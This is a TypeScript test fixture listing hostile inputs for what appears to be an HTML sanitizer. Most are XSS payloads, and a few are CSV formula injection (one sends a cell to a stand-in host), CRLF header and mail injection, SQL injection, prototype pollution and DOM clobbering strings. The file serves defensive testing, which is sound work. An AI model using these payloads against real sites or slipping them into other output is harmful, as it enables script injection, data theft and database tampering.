/**
 * A hostile text. `control`: as HTML, Chromium runs a script of it by itself; `helped`: with an event or a
 * click.
 */
export interface Attack {
  readonly id: string;
  readonly source: string;
  readonly html: string;
  readonly control: boolean;
  readonly helped: boolean;
}

/** Our own attacks, a few of each kind: they keep the tests useful where the corpora are missing. */
export const OWN_ATTACKS: readonly Attack[] = [
  // Elements.
  ...runs([
    '<script>alert("own")</script>',
    '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
    '<object data="data:text/html,<script>alert(1)</script>"></object>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)"><img src=nowhere onerror=alert(1)>',
    '<base href="https://elsewhere.example/"><script src="data:text/javascript,alert(1)"></script>',
    '<details open ontoggle=alert(1)><summary>more</summary>',
  ]),
  // Attributes.
  ...runs([
    '<img src=nowhere onerror=alert(1)>',
    '"><img src=nowhere onerror=alert(1)>',
    "'-alert(1)-'<img src='nowhere'onerror='alert(1)'>",
    '</title></textarea></style></script><img src=nowhere onerror=alert(1)>',
    '<img/src="nowhere"/onerror\n=\nalert(1)//>',
    '<input autofocus onfocus=alert(1)>',
  ]),
  ...runsWithHelp([
    '<p onmouseover="alert(1)" tabindex=1>come here</p>',
    '<b oncopy=alert(1) onpaste=alert(1) contenteditable>copy me</b>',
    '<div onwheel=alert(1) style="height:100vh">scroll me</div>',
  ]),
  // Addresses.
  ...runsWithHelp([
    '<a href="javascript:alert(1)">read on</a>',
    '<a href="&#x01;java\tscript&colon;alert(1)">read on</a>',
    '<form action="javascript:alert(1)"><button>send</button></form>',
    '<form><button formaction="JaVaScRiPt:alert(1)">send</button></form>',
  ]),
  ...rests([
    '<a href="//elsewhere.example/%2e%2e">read on</a>',
    '<a href="data:text/html,<script>alert(1)</script>" target=_blank>read on</a>',
    '<img src="https://elsewhere.example/pixel.gif" srcset="https://elsewhere.example/2x.gif 2x">',
  ]),
  // Styles.
  ...runs([
    '<style>@keyframes k{}</style><p style="animation:k 1ms" onanimationstart=alert(1)>moves</p>',
    '</p><style>p{background:url(https://elsewhere.example/a)}</style><svg onload=alert(1)>',
  ]),
  ...rests([
    '<p style="position:fixed;inset:0;background:url(https://elsewhere.example/b)">over all</p>',
    '<link rel=stylesheet href="https://elsewhere.example/c.css">',
  ]),
  // Other namespaces, and texts that a second parser reads in another way.
  ...runs([
    '<svg><script>alert(1)</script></svg>',
    '<svg><style><img src=nowhere onerror=alert(1)></style></svg>',
    '<math><annotation-xml encoding="text/html"><img src=nowhere onerror=alert(1)></annotation-xml></math>',
    '<svg><foreignObject><iframe srcdoc="<script>top.alert(1)</script>"></iframe></foreignObject></svg>',
    '<noscript><p title="</noscript><img src=nowhere onerror=alert(1)>"></noscript><img src=x onerror=alert(2)>',
    '<!--><img src=nowhere onerror=alert(1)>-->',
    '<table><td><svg><desc><td><img src=nowhere onerror=alert(1)></table>',
  ]),
  ...runsWithHelp([
    '<svg><a><set attributeName=href to="javascript:alert(1)"/><text y=20>press</text></a></svg>',
  ]),
  ...rests([
    '<form><math><mtext></form><form><mglyph><style></math><b title="</style>x">',
    '<template><script>alert(1)</script></template>',
    '<textarea><p id="</textarea><b>out</b>">',
  ]),
  // Templates, references and characters.
  ...rests([
    '{{constructor.constructor("alert(1)")()}} #[alert(1)] <%= alert(1) %> #{alert(1)}',
    '&lt;script&gt;alert(1)&lt;/script&gt; &amp;lt;b&amp;gt;',
    '\ufeff+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
    '\u202e>tpircs/<)1(trela>tpircs<\u202c \u2028alert(1)\u2029 \0x',
    '<ſcript>alert(1)</ſcript> ＜img src=x onerror=alert(1)＞',
  ]),
  // Names that shadow those of scripts.
  ...rests([
    '<form id=root name=state><input name=attributes><input id=state value="{}"></form>',
    '<a id=__proto__ name=location></a><img name=getElementById><output id=history>x</output>',
    '{"__proto__":{"isAdmin":true}} constructor prototype toString',
  ]),
  // Formulas, headers and statements.
  ...rests([
    '=HYPERLINK("https://elsewhere.example/?"&A1,"open")',
    "+cmd|' /C calc'!A0;@SUM(1+1);\t-2+3",
    'a@b.example\r\nBcc: all@elsewhere.example\r\n\r\n<b>body</b>',
    'x%0d%0aSet-Cookie:%20session=x%0d%0a%0d%0a<script>alert(1)</script>',
    '\'; drop table news; -- " or 1=1 -- ) union select password from admin_config',
    ']]></content><script xmlns="http://www.w3.org/1999/xhtml">alert(1)</script><!--',
  ]),
];

function runs(texts: readonly string[]): Attack[] {
  return attacks('r', texts, { control: true, helped: true });
}

function runsWithHelp(texts: readonly string[]): Attack[] {
  return attacks('h', texts, { control: false, helped: true });
}

/** Texts that run nothing as they are, but must not change a page, a file or a mail either. */
function rests(texts: readonly string[]): Attack[] {
  return attacks('q', texts, { control: false, helped: false });
}

function attacks(kind: string, texts: readonly string[], does: Pick<Attack, 'control' | 'helped'>): Attack[] {
  return texts.map((html) => ({ id: `${kind} ${html.slice(0, 24)}`, source: 'own', html, ...does }));
}
